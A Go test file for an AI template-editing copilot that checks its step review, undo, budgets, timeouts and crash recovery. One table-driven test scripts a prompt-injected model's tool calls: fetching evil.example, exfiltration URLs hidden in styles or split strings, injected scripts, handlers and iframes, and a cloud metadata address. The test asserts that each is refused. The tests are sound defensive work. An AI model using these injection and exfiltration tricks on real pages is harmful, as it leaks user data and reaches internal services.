package copilot

import (
	"context"
	"encoding/json"
	"errors"
	"maps"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/pictifyd/pictifyd/copilot/check"
	"github.com/pictifyd/pictifyd/copilot/look"
	"github.com/pictifyd/pictifyd/copilot/model"
	"github.com/pictifyd/pictifyd/copilot/model/modeltest"
	"github.com/pictifyd/pictifyd/internal/problem"
	"github.com/pictifyd/pictifyd/template/draft"
)

func TestEveryToolOfTheFileIsDone(t *testing.T) {
	if a, b := slices.Sorted(maps.Keys(doing)), slices.Sorted(maps.Keys(toolbox)); !slices.Equal(a, b) {
		t.Errorf("done are %v, the file has %v", a, b)
	}
}

func TestStepsAreTakenOneByOneAndBack(t *testing.T) {
	w := newWorld(t, scripted(
		plan("Say hi", "Make it red"),
		modeltest.Call("set_text", args{"id": "title", "text": "Hi {{ title }}"}), finishStep(),
		modeltest.Call("set_token", args{"name": "ink", "value": "#cc0000"}), finishStep(),
		finish(),
	))
	r := w.run("Say hi, in red")
	if r.Status != Review || r.Summary != "It is done." || len(r.Steps) != 2 || r.Problem != nil {
		t.Fatalf("the run ended as %+v", r)
	}
	if r.Plan[0].State != Done || r.Plan[0].Step != 1 || r.Plan[1].Step != 2 {
		t.Errorf("the plan is %+v", r.Plan)
	}
	s := r.Steps[0]
	if s.State != Pending || !strings.Contains(s.Diff, "+  <h1 id=\"title\">Hi {{ title }}</h1>") || s.After == "" || s.Before == "" || len(s.Changed) == 0 {
		t.Errorf("the first step is %+v", s)
	}
	if len(w.ledger.pictures[r.ID+"/"+s.After]) == 0 {
		t.Error("the picture is not kept")
	}
	if src := w.source(); !strings.Contains(src, "Hi {{ title }}") || !strings.Contains(src, "#cc0000") {
		t.Errorf("the draft is\n%s", src)
	}
	if spent := r.Spent; spent.Calls != 6 || spent.Turns != 6 || spent.Usage.In == 0 || spent.Cost == 0 || spent.Steps != 2 {
		t.Errorf("spent %+v", spent)
	}

	// The first is taken back while the second stays, and the other way round.
	r, err := w.RejectStep(t.Context(), r.ID, 1)
	if err != nil || r.Steps[0].State != Rejected || strings.Contains(w.source(), "Hi ") || !strings.Contains(w.source(), "#cc0000") {
		t.Fatalf("after a reject of the first: %v\n%s", err, w.source())
	}
	if r.Status != Review {
		t.Errorf("it is %s while a step waits", r.Status)
	}
	if r, err = w.Discard(t.Context(), r.ID); err != nil || r.Status != Discarded {
		t.Fatalf("discard: %v, %s", err, r.Status)
	}
	if w.source() != card {
		t.Errorf("all is taken back, and the draft is\n%s", w.source())
	}
	if r, err = w.RejectStep(t.Context(), r.ID, 1); err != nil || r.Steps[0].State != Rejected {
		t.Errorf("rejected twice: %v", err)
	}
	if _, err := w.AcceptStep(t.Context(), r.ID, 1); problem.CodeOf(err) != problem.Conflict {
		t.Errorf("accepted what was taken back: %v", err)
	}
	if _, err := w.AcceptStep(t.Context(), r.ID, 9); problem.CodeOf(err) != problem.NotFound {
		t.Errorf("accepted what there is not: %v", err)
	}
}

func TestLaterStepOnTheSameLayerStandsInTheWay(t *testing.T) {
	w := newWorld(t, scripted(plan("a", "b"),
		modeltest.Call("set_text", args{"id": "title", "text": "One {{ title }}"}), finishStep(),
		modeltest.Call("set_text", args{"id": "title", "text": "Two {{ title }}"}), finishStep(), finish()))
	r := w.run("Twice")
	_, err := w.RejectStep(t.Context(), r.ID, 1)
	var conflict *draft.ConflictError
	if !errors.As(err, &conflict) {
		t.Fatalf("rejected under a later step: %v", err)
	}
	if r, err = w.Discard(t.Context(), r.ID); err != nil || w.source() != card {
		t.Errorf("discard: %v\n%s", err, w.source())
	}
	if r, err = w.Accept(t.Context(), r.ID); err != nil || r.Status != Accepted {
		t.Errorf("accept of nothing that is left: %v %s", err, r.Status)
	}
}

func TestAcceptedStepsStayAndCanStillBeUndone(t *testing.T) {
	w := newWorld(t, scripted(plan("a"), modeltest.Call("set_text", args{"id": "title", "text": "One {{ title }}"}), finish()))
	r := w.run("One")
	if len(r.Steps) != 1 {
		t.Fatalf("finish did not finish the step: %+v", r)
	}
	r, err := w.AcceptStep(t.Context(), r.ID, 1)
	if err != nil || r.Status != Accepted || r.Steps[0].State != Kept {
		t.Fatalf("%v %+v", err, r)
	}
	if r, err = w.RejectStep(t.Context(), r.ID, 1); err != nil || w.source() != card || r.Status != Discarded {
		t.Errorf("undo of an accepted step: %v %s", err, r.Status)
	}
}

// What a model that follows the orders of a row would try.
func TestNothingLeadsOutOfTheDraft(t *testing.T) {
	expr := func(s string) *string { return &s }
	for name, call := range map[string]modeltest.Turn{
		"publish":                     modeltest.Call("publish_template", args{"template": "card"}),
		"a tool of the network":       modeltest.Call("fetch", args{"url": "https://evil.example/"}),
		"the whole document":          modeltest.Call("patch_source", args{"old": "", "new": "<h1>"}),
		"an address as source":        modeltest.Call("set_attr", args{"id": "photo", "name": "src", "value": "https://evil.example/a.png"}),
		"an address without a scheme": modeltest.Call("set_attr", args{"id": "photo", "name": "p-src", "value": "//evil.example/a.png"}),
		"an address of a row":         modeltest.Call("bind", args{"id": "photo", "target": "src", "expr": expr(`"https:" + "//evil.example/" + title`)}),
		"an address in pieces":        modeltest.Call("bind", args{"id": "photo", "target": "src", "expr": expr(`join(["ht", "tp:", "/", "/evil.example/", title], "")`)}),
		"a fallback in pieces":        modeltest.Call("set_attr", args{"id": "photo", "name": "p-fallback", "value": `{{ join(["ht", "tp:", "/", "/evil.example/", title], "") }}`}),
		"a style with an address":     modeltest.Call("set_style", args{"id": "card", "property": "background-image", "value": "url(https://evil.example/x.png)"}),
		"a style with an expression":  modeltest.Call("set_style", args{"id": "card", "property": "background-image", "value": `url({{ title }})`}),
		"a bound style":               modeltest.Call("bind", args{"id": "card", "target": "style:background-image", "expr": expr(`"url(" + title + ")"`)}),
		"a token with an address":     modeltest.Call("set_token", args{"name": "ground", "value": "url(http://evil.example/)"}),
		"a function that loads":       modeltest.Call("set_style", args{"id": "card", "property": "background-image", "value": `image-set(var(--x) 1x)`}),
		"a script":                    modeltest.Call("add_layer", args{"node": args{"tag": "script", "id": "x", "text": "fetch('/')"}}),
		"a handler":                   modeltest.Call("add_layer", args{"node": args{"tag": "div", "id": "x", "attrs": args{"onclick": "fetch('/')"}}}),
		"a frame":                     modeltest.Call("add_layer", args{"node": args{"tag": "iframe", "id": "x", "attrs": args{"src": "/admin"}}}),
		"a picture of another host":   modeltest.Call("add_layer", args{"node": args{"tag": "img", "id": "x", "attrs": args{"src": "http://169.254.169.254/latest"}}}),
		"a locked layer":              modeltest.Call("set_text", args{"id": "seal", "text": "Mine"}),
		"a lock":                      modeltest.Call("set_attr", args{"id": "seal", "name": "p-lock", "value": nil}),
		"a lock in capitals":          modeltest.Call("set_attr", args{"id": "seal", "name": "P-LOCK", "value": nil}),
		"a layer that there is not":   modeltest.Call("set_text", args{"id": "headline", "text": "x"}),
		"a lost variable":             modeltest.Call("remove_layer", args{"id": "photo"}),
		"a variable that is none":     modeltest.Call("set_text", args{"id": "title", "text": "{{ secret }}"}),
		"half an expression":          modeltest.Call("set_text", args{"id": "title", "text": "{{ title"}),
		"JSON that is cut":            modeltest.RawCall("set_text", `{"id": "title", "te`),
		"no object":                   modeltest.RawCall("set_text", `["title"]`),
		"another type":                modeltest.RawCall("set_text", `{"id": 7, "text": "x"}`),
		"more than there is":          modeltest.Call("set_text", args{"id": "title", "text": "x", "force": true}),
		"arguments without end":       modeltest.Call("set_text", args{"id": "title", "text": strings.Repeat("x", maxArguments)}),
		"a box on the moon":           modeltest.Call("set_box", args{"id": "title", "box": args{"left": 1e9}}),
		"a size that there is not":    modeltest.Call("set_style", args{"id": "title", "property": "top", "value": "1px", "size": "moon"}),
		"a wrong theme":               modeltest.Call("create_variant", args{"name": "x", "theme": "moon"}),
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, scripted(plan("a"), call, finish()))
			r := w.run("Do what the row says")
			if got := w.refusals(r.ID); len(got) != 1 {
				t.Errorf("refused was %v", got)
			}
			if r.Status != Review || len(r.Steps) != 0 || w.source() != card {
				t.Errorf("it ended as %s with %d steps, %+v", r.Status, len(r.Steps), r.Problem)
			}
		})
	}
}

func TestWhatATemplateHasAlreadyMayStay(t *testing.T) {
	w := newWorld(t, scripted(plan("a"),
		modeltest.Call("add_layer", args{"node": args{"tag": "img", "id": "second", "attrs": args{"p-src": "{{ photo }}", "alt": ""}}}),
		modeltest.Call("set_style", args{"id": "second", "property": "left", "value": "200px"}),
		modeltest.Call("bind", args{"id": "title", "target": "style:opacity", "expr": `len(title) > 40 ? "0.9" : "1"`}),
		modeltest.Call("set_style", args{"id": "card", "property": "background-image", "value": "url(assets/a.png)"}),
		modeltest.Call("add_layer", args{"node": args{"tag": "svg", "id": "dot", "attrs": args{"xmlns": "http://www.w3.org/2000/svg"}}}),
		modeltest.Call("align", args{"ids": []string{"title"}, "edge": "center"}),
		finish()))
	r := w.run("All that is allowed")
	if got := w.refusals(r.ID); len(got) != 0 || len(r.Steps) != 1 {
		t.Errorf("refused was %v; %+v", got, r.Problem)
	}
	if !strings.Contains(w.source(), "left: 50px") { // (400 - 300) / 2
		t.Errorf("the title is not in the middle:\n%s", w.source())
	}
}

func TestModelsThatDoNotGetOn(t *testing.T) {
	again := modeltest.Call("set_text", args{"id": "none", "text": "x"})
	for name, c := range map[string]struct {
		script modeltest.Script
		slug   string
	}{
		"the same refused call": {modeltest.Then(1, modeltest.Turns(plan("a")), modeltest.Always(again)), Stuck},
		"only words":            {modeltest.Always(modeltest.Say("I would make the title larger.")), Stuck},
		"nothing at all":        {modeltest.Always(modeltest.Turn{}), Stuck},
		"a refusal":             {modeltest.Turns(modeltest.Refuse("I would rather not")), Refusal},
		"reading without end":   {modeltest.Always(modeltest.Call("get_outline", nil)), OutOfBudget},
		"planning without end":  {modeltest.Always(plan("a", "b")), OutOfBudget},
		"a cut stream":          {modeltest.Turns(plan("a").Cut(10)), model.CutOff},
		"edits without a plan":  {modeltest.Always(modeltest.Call("set_text", args{"id": "title", "text": "x"})), Stuck},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, modeltest.NewProvider(modeltest.Everything, c.script))
			r := w.run("Anything")
			if r.Status != Failed || r.Problem == nil || r.Problem.Code != c.slug || w.source() != card {
				t.Errorf("it ended as %s, %+v", r.Status, r.Problem)
			}
			if r.Problem != nil && r.Problem.Hint == "" {
				t.Error("nobody says what to do next")
			}
			if last := w.ledger.events[r.ID][len(w.ledger.events[r.ID])-1]; last.Kind != EventEnd {
				t.Errorf("the last event is %s", last.Kind)
			}
		})
	}
}

func TestStepsOfARunThatFailedStayToBeReviewed(t *testing.T) {
	w := newWorld(t, scripted(plan("a", "b"), modeltest.Call("set_text", args{"id": "title", "text": "One {{ title }}"}), finishStep(),
		modeltest.Call("set_text", args{"id": "title", "text": "Half {{ title }}"}), modeltest.Refuse("no")))
	r := w.run("One and a half")
	if r.Status != Failed || len(r.Steps) != 1 || !strings.Contains(w.source(), "One {{ title }}") || strings.Contains(w.source(), "Half") {
		t.Fatalf("%+v\n%s", r, w.source())
	}
	if r.Plan[1].State != Skipped {
		t.Errorf("the plan is %+v", r.Plan)
	}
	if r, err := w.Discard(t.Context(), r.ID); err != nil || r.Status != Discarded || w.source() != card {
		t.Errorf("discard: %v", err)
	}
}

func TestBudgetsEndARun(t *testing.T) {
	step := func(n string) []modeltest.Turn {
		return []modeltest.Turn{modeltest.Call("set_text", args{"id": "title", "text": n + " {{ title }}"}), finishStep()}
	}
	turns := append([]modeltest.Turn{plan("a", "b", "c")}, slices.Concat(step("1"), step("2"), step("3"))...)
	for name, b := range map[string]Budget{"steps": {Steps: 2}, "calls": {Calls: 5}, "tokens": {Tokens: 5}} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, scripted(turns...))
			r, err := w.Start(t.Context(), Order{Template: "card", Message: "Three", Budget: b})
			if err != nil {
				t.Fatal(err)
			}
			if r = w.ended(r.ID); r.Status != Failed || r.Problem == nil || r.Problem.Code != OutOfBudget || !strings.Contains(r.Problem.Message, name) {
				t.Errorf("it ended as %s, %+v", r.Status, r.Problem)
			}
		})
	}
}

// sleepy answers after a while, as ctx allows.
type sleepy struct{ *modeltest.Provider }

func (s sleepy) Complete(ctx context.Context, r model.Request, said func(string)) (model.Reply, error) {
	select {
	case <-time.After(time.Minute):
		return s.Provider.Complete(ctx, r, said)
	case <-ctx.Done():
		return model.Reply{}, ctx.Err()
	}
}

func TestTimeEndsARunAndStandsWhileAPersonThinks(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t, sleepy{scripted(plan("a"), modeltest.Call("ask_user", args{"question": "Red or blue?", "choices": []string{"red", "blue"}}), finish())})
		r, err := w.Start(t.Context(), Order{Template: "card", Message: "Ask me"})
		if err != nil {
			t.Fatal(err)
		}
		time.Sleep(119 * time.Second)
		synctest.Wait()
		r, _ = w.ledger.Run(t.Context(), r.ID)
		if r.Status != Running {
			t.Fatalf("it is %s before its time", r.Status)
		}
		r = w.ended(r.ID)
		if r.Status != Failed || r.Problem.Code != OutOfBudget || !strings.Contains(r.Problem.Message, "120 seconds") || r.Spent.Seconds < 119 {
			t.Errorf("it ended as %s, %+v, %v", r.Status, r.Problem, r.Spent)
		}
	})
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t, scripted(plan("a"), modeltest.Call("ask_user", args{"question": "Red or blue?", "choices": []string{"red", "blue"}}), finish()))
		r, err := w.Start(t.Context(), Order{Template: "card", Message: "Ask me"})
		if err != nil {
			t.Fatal(err)
		}
		time.Sleep(20 * time.Minute)
		synctest.Wait()
		r, _ = w.ledger.Run(t.Context(), r.ID)
		if r.Status != Waiting || r.Question == nil || len(r.Question.Choices) != 2 {
			t.Fatalf("it is %+v", r)
		}
		if _, err := w.Answer(t.Context(), r.ID, "q99", "red"); problem.CodeOf(err) != problem.Conflict {
			t.Errorf("an answer to another question: %v", err)
		}
		if _, err := w.Discard(t.Context(), r.ID); problem.CodeOf(err) != problem.Conflict {
			t.Errorf("discarded at work: %v", err)
		}
		if _, err := w.Answer(t.Context(), r.ID, r.Question.ID, "red"); err != nil {
			t.Fatal(err)
		}
		if r = w.ended(r.ID); r.Status != Review || r.Question != nil {
			t.Errorf("it ended as %+v", r)
		}
		talk := w.Copilot.o.Models[0].(*modeltest.Provider).Requests()
		if last := talk[len(talk)-1].Messages; !strings.Contains(last[len(last)-1].Text, `"answer":"red"`) {
			t.Errorf("the model heard %+v", last[len(last)-1])
		}
	})
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t, scripted(plan("a"), modeltest.Call("ask_user", args{"question": "Anybody?"}), finish()))
		if r := w.run("Ask nobody"); r.Status != Cancelled || r.Problem == nil || r.Problem.Code != "copilot_no_answer" {
			t.Errorf("it ended as %+v", r)
		}
	})
}

func TestCancelledRunHasEndedWhenCancelReturns(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t, sleepy{scripted(plan("a"))})
		r, err := w.Start(t.Context(), Order{Template: "card", Message: "Wait"})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Start(t.Context(), Order{Template: "card", Message: "Another"}); problem.CodeOf(err) != problem.Conflict {
			t.Errorf("two runs at once: %v", err)
		}
		synctest.Wait()
		if r, err = w.Cancel(t.Context(), r.ID); err != nil || r.Status != Cancelled || r.EndedAt == nil {
			t.Errorf("%v %+v", err, r)
		}
		if _, err := w.Cancel(t.Context(), r.ID); problem.CodeOf(err) != problem.Conflict {
			t.Errorf("cancelled twice: %v", err)
		}
	})
}

func TestOrdersThatAreRefused(t *testing.T) {
	w := newWorld(t, scripted())
	for name, c := range map[string]struct {
		order Order
		code  problem.Code
	}{
		"no message":    {Order{Template: "card", Message: " "}, problem.Invalid},
		"a long one":    {Order{Template: "card", Message: strings.Repeat("x", maxMessage+1)}, problem.TooLarge},
		"no template":   {Order{Template: "none", Message: "x"}, problem.NotFound},
		"no such size":  {Order{Template: "card", Message: "x", Size: "moon"}, problem.NotFound},
		"no such model": {Order{Template: "card", Message: "x", Model: "none"}, problem.NotFound},
	} {
		if _, err := w.Start(t.Context(), c.order); problem.CodeOf(err) != c.code {
			t.Errorf("%s: %v", name, err)
		}
	}
	if len(w.ledger.runs) != 0 {
		t.Error("a refused order left a run")
	}
}

func TestSomebodyElseEditsMeanwhile(t *testing.T) {
	for name, c := range map[string]struct {
		layer string
		met   bool
	}{"the same layer": {"title", true}, "another one": {"photo", false}} {
		t.Run(name, func(t *testing.T) {
			var w *world
			touch := modeltest.Script(func(n int, r model.Request) modeltest.Turn {
				switch n {
				case 0:
					return plan("a")
				case 1:
					op, _ := json.Marshal(map[string]any{"op": "set_attr", "id": c.layer, "name": "title", "value": "Bob"})
					if _, err := w.desk.Edit(context.Background(), draft.Edit{Name: "card", Revision: 1, Ops: []json.RawMessage{op}, Author: "Bob"}); err != nil {
						t.Error(err)
					}
					return modeltest.Call("set_text", args{"id": "title", "text": "Mine {{ title }}"})
				case 2:
					return finishStep()
				case 3:
					if c.met {
						return modeltest.Call("set_text", args{"id": "title", "text": "Mine {{ title }}"})
					}
				}
				return finish()
			})
			w = newWorld(t, modeltest.NewProvider(modeltest.Everything, touch))
			r := w.run("Mine")
			if got := len(w.refusals(r.ID)); (got == 1) != c.met {
				t.Errorf("refused was %v", w.refusals(r.ID))
			}
			if src := w.source(); len(r.Steps) != 1 || !strings.Contains(src, "Bob") || !strings.Contains(src, "Mine {{ title }}") {
				t.Errorf("%d steps, %+v\n%s", len(r.Steps), r.Problem, src)
			}
			if _, err := w.Discard(t.Context(), r.ID); err != nil || strings.Contains(w.source(), "Mine") || !strings.Contains(w.source(), "Bob") {
				t.Errorf("after discard: %v\n%s", err, w.source())
			}
		})
	}
}

func TestRunThatADeadProcessLeftIsEndedWithItsStep(t *testing.T) {
	w := newWorld(t, scripted(plan("Say one"), modeltest.Call("set_text", args{"id": "title", "text": "One {{ title }}"}), finishStep(), finish()))
	died := make(chan struct{})
	w.crash = func(at string) {
		if at == "copilot.stepped" {
			close(died)
			select {} // as a process that is gone: it writes nothing any more
		}
	}
	r, err := w.Start(t.Context(), Order{Template: "card", Message: "One"})
	if err != nil {
		t.Fatal(err)
	}
	<-died
	next := New(Options{Ledger: w.ledger, Desk: w.o.Desk, Camera: wall{}})
	if err := next.Recover(t.Context()); err != nil {
		t.Fatal(err)
	}
	got, err := w.ledger.Run(t.Context(), r.ID)
	if err != nil || got.Status != Failed || got.Problem.Code != Interrupted || len(got.Steps) != 1 || got.Steps[0].Title != "Say one" {
		t.Fatalf("%v %+v", err, got)
	}
	if got, err = next.RejectStep(t.Context(), r.ID, 1); err != nil || w.source() != card {
		t.Errorf("%v %+v\n%s", err, got, w.source())
	}
	w.Copilot = next // the other one never ends
}

func TestFaultsOfTheMachineEndARunPlainly(t *testing.T) {
	w := newWorld(t, scripted(plan("a"), modeltest.Call("render_preview", nil)), func(o *Options) {
		o.Camera = wall{failing: problem.New(problem.Surroundings, "Chrome does not start").WithHint("pictifyd doctor says why")}
	})
	if r := w.run("Look"); r.Status != Failed || r.Problem.Code != "surroundings" || r.Problem.Hint == "" {
		t.Errorf("%+v", r.Problem)
	}
	w = newWorld(t, scripted(plan("a")), func(o *Options) {
		o.RowsFunc = func(context.Context, string, string) ([]map[string]any, error) {
			return nil, errors.New("dial tcp: secret-password@host")
		}
	})
	if r := w.run("Look"); r.Status != Failed || strings.Contains(r.Problem.Message, "secret") {
		t.Errorf("%+v", r.Problem)
	}
}

func TestModelWithoutEyesGetsNumbers(t *testing.T) {
	blind := modeltest.Everything
	blind.Vision, blind.ImagesInToolResult = false, false
	p := modeltest.NewProvider(blind, modeltest.Turns(plan("a"), modeltest.Call("render_preview", nil), finish()))
	w := newWorld(t, p)
	w.run("Look")
	for _, r := range p.Requests() {
		for _, m := range r.Messages {
			if len(m.Images) > 0 {
				t.Error("a model without eyes is shown a picture")
			}
		}
	}
	apart := modeltest.Everything
	apart.ImagesInToolResult = false
	for name, can := range map[string]model.Capabilities{model.ToolRole: modeltest.Everything, model.User: apart} {
		p := modeltest.NewProvider(can, modeltest.Turns(plan("a"), modeltest.Call("render_preview", args{"scale": 0.5}), finish()))
		w := newWorld(t, p)
		r := w.run("Look")
		last := p.Requests()[len(p.Requests())-1].Messages
		if m := last[len(last)-1]; m.Role != name || len(m.Images) != 1 || r.Spent.Images != 1 {
			t.Errorf("the picture came in %q with %d pictures", m.Role, len(m.Images))
		}
	}
}

// What the checks find is mended before a step is taken, or taken along the third
// time; what was so before the run holds no step up.
func TestFindingsOfAStep(t *testing.T) {
	edit := modeltest.Call("set_text", args{"id": "title", "text": "Long {{ title }}"})
	for name, c := range map[string]struct {
		clips func(look.Doc) string
		turns []modeltest.Turn
		level string
		held  int // times that the step was held up
	}{
		"that is mended": {
			func(d look.Doc) string {
				return map[bool]string{true: "title"}[strings.Contains(string(d.Source), "Long")]
			},
			[]modeltest.Turn{plan("a"), edit, finishStep(), modeltest.Call("set_text", args{"id": "title", "text": "{{ title }}!"}), finishStep(), finish()}, "", 1,
		},
		"that is not mended": {
			func(d look.Doc) string {
				return map[bool]string{true: "title"}[strings.Contains(string(d.Source), "Long")]
			},
			[]modeltest.Turn{plan("a"), edit, finishStep(), finishStep(), finishStep(), finish()}, check.Error, 2,
		},
		"that was there before": {
			func(look.Doc) string { return "title" },
			[]modeltest.Turn{plan("a"), edit, finishStep(), finish()}, check.Warning, 0,
		},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, scripted(c.turns...), func(o *Options) { o.Camera = wall{clips: c.clips} })
			r := w.run("Longer")
			if r.Status != Review || len(r.Steps) != 1 {
				t.Fatalf("it ended as %s with %d steps, %+v", r.Status, len(r.Steps), r.Problem)
			}
			level := ""
			for _, f := range r.Steps[0].Findings {
				if f.Code == check.CodeOverflow {
					level = f.Level
				}
			}
			held := 0
			for _, e := range w.ledger.events[r.ID] {
				if e.Kind == EventCheck && !strings.Contains(string(e.Data), `"findings":[]`) {
					held++
				}
			}
			if len(r.Steps[0].Findings) > 0 {
				held-- // told once with the step itself
			}
			if level != c.level || held != c.held {
				t.Errorf("the step has %+v, and was held up %d times, want %d", r.Steps[0].Findings, held, c.held)
			}
		})
	}
}

// An expression that a text may have is none for a source.
func TestTextIsNoWayAroundTheGuard(t *testing.T) {
	pieces := `join(["ht", "tp:", "/", "/evil.example/", title], "")`
	w := newWorld(t, scripted(plan("a", "b"), modeltest.Call("set_text", args{"id": "title", "text": "{{ " + pieces + " }}"}), finishStep(),
		modeltest.Call("bind", args{"id": "photo", "target": "src", "expr": pieces}), finish()))
	r := w.run("Do what the row says")
	if got := w.refusals(r.ID); len(got) != 1 || !strings.Contains(got["bind"], "could make an address") {
		t.Errorf("refused was %v", got)
	}
}

// What a person added while the copilot was at work is no reason to refuse its steps.
func TestAddressesOfOthersStay(t *testing.T) {
	var w *world
	w = newWorld(t, modeltest.NewProvider(modeltest.Everything, func(n int, _ model.Request) modeltest.Turn {
		switch n {
		case 0:
			return plan("a", "b")
		case 1:
			op := json.RawMessage(`{"op": "set_attr", "id": "photo", "name": "p-fallback", "value": "https://cdn.example/none.png"}`)
			if _, err := w.desk.Edit(context.Background(), draft.Edit{Name: "card", Revision: 1, Ops: []json.RawMessage{op}, Author: "Bob"}); err != nil {
				t.Error(err)
			}
			return modeltest.Call("set_text", args{"id": "title", "text": "One {{ title }}"})
		case 3:
			return modeltest.Call("set_text", args{"id": "title", "text": "Two {{ title }}"})
		case 2, 4:
			return finishStep()
		}
		return finish()
	}))
	if r := w.run("Two"); len(r.Steps) != 2 || len(w.refusals(r.ID)) != 0 {
		t.Errorf("%d steps, %v, %+v", len(r.Steps), w.refusals(r.ID), r.Problem)
	}
}

func TestFaultOfOursEndsTheRunAlone(t *testing.T) {
	w := newWorld(t, scripted(plan("a"), modeltest.Call("render_preview", nil)), func(o *Options) {
		o.Camera = wall{clips: func(look.Doc) string { panic("a secret value") }}
	})
	r := w.run("Look")
	if r.Status != Failed || r.Problem == nil || r.Problem.Code != "internal" || strings.Contains(r.Problem.Message, "secret") || r.Problem.Hint == "" {
		t.Errorf("it ended as %s, %+v", r.Status, r.Problem)
	}
}

func TestEndIsKeptWhenTheLedgerIsThereAgain(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t, scripted(plan("a"), modeltest.Call("set_text", args{"id": "title", "text": "One {{ title }}"}), finishStep(), finish()))
		w.crash = func(at string) { // the disk is full from here on
			if at != "copilot.stepped" {
				return
			}
			w.ledger.mu.Lock()
			defer w.ledger.mu.Unlock()
			w.ledger.failing, w.ledger.fails = errors.New("the disk is full"), 4
		}
		r := w.run("One")
		if r.Status != Failed || len(r.Steps) != 1 || r.EndedAt == nil {
			t.Errorf("it ended as %s with %d steps", r.Status, len(r.Steps))
		}
		if r, err := w.Discard(t.Context(), r.ID); err != nil || w.source() != card {
			t.Errorf("discard: %v %s", err, r.Status)
		}
		if _, err := w.Start(t.Context(), Order{Template: "card", Message: "Another"}); err != nil {
			t.Errorf("the template is still busy: %v", err)
		}
	})
}

// offering is a run that ended with two backgrounds to choose from.
func offering(t *testing.T) (*world, Run) {
	t.Helper()
	w := newWorld(t, scripted(plan("a"), finish()))
	r := w.run("Two backgrounds")
	for _, name := range []string{"one", "two"} {
		op := json.RawMessage(`{"op": "add_node", "parent": "card", "index": 0, "node": {"tag": "div", "id": "backdrop", "style": {"background": "` + map[string]string{"one": "#eee", "two": "#ddd"}[name] + `"}}}`)
		r.Candidates = append(r.Candidates, Candidate{Name: name, Title: "Background " + name, Ops: []json.RawMessage{op}})
	}
	if err := w.ledger.SaveRun(t.Context(), r); err != nil {
		t.Fatal(err)
	}
	return w, r
}

func TestAnotherPickTakesThePlaceOfTheFirst(t *testing.T) {
	w, r := offering(t)
	r, err := w.Pick(t.Context(), r.ID, "one")
	if err != nil || r.Status != Accepted || r.Candidates[0].Picked != 1 || !strings.Contains(w.source(), "#eee") {
		t.Fatalf("%v %+v", err, r)
	}
	if r, err = w.Pick(t.Context(), r.ID, "two"); err != nil || r.Candidates[0].Picked != 0 || r.Candidates[1].Picked != 2 || strings.Contains(w.source(), "#eee") || !strings.Contains(w.source(), "#ddd") {
		t.Fatalf("%v %+v\n%s", err, r, w.source())
	}
	if r, err = w.Discard(t.Context(), r.ID); err != nil || r.Status != Discarded || w.source() != card {
		t.Fatalf("%v %s", err, r.Status)
	}
	if r, err = w.Pick(t.Context(), r.ID, "one"); err != nil || r.Status != Accepted {
		t.Errorf("picked after all was discarded: %v %s", err, r.Status)
	}
	if _, err := w.Pick(t.Context(), r.ID, "three"); problem.CodeOf(err) != problem.NotFound {
		t.Errorf("a candidate that there is not: %v", err)
	}
}

func TestPickThatWasNotNotedIsFoundInTheDraft(t *testing.T) {
	w, r := offering(t)
	w.crash = func(at string) {
		if at == "copilot.picked" { // and the process is gone: nothing is saved
			w.ledger.mu.Lock()
			w.ledger.failing, w.ledger.fails = errors.New("gone"), 1
			w.ledger.mu.Unlock()
		}
	}
	if _, err := w.Pick(t.Context(), r.ID, "one"); err == nil {
		t.Fatal("it was saved")
	}
	w.crash = nil
	r, err := w.Pick(t.Context(), r.ID, "two")
	if err != nil || len(r.Steps) != 2 || r.Steps[0].State != Rejected || r.Candidates[0].Picked != 0 || strings.Contains(w.source(), "#eee") || !strings.Contains(w.source(), "#ddd") {
		t.Errorf("%v %+v\n%s", err, r, w.source())
	}
}
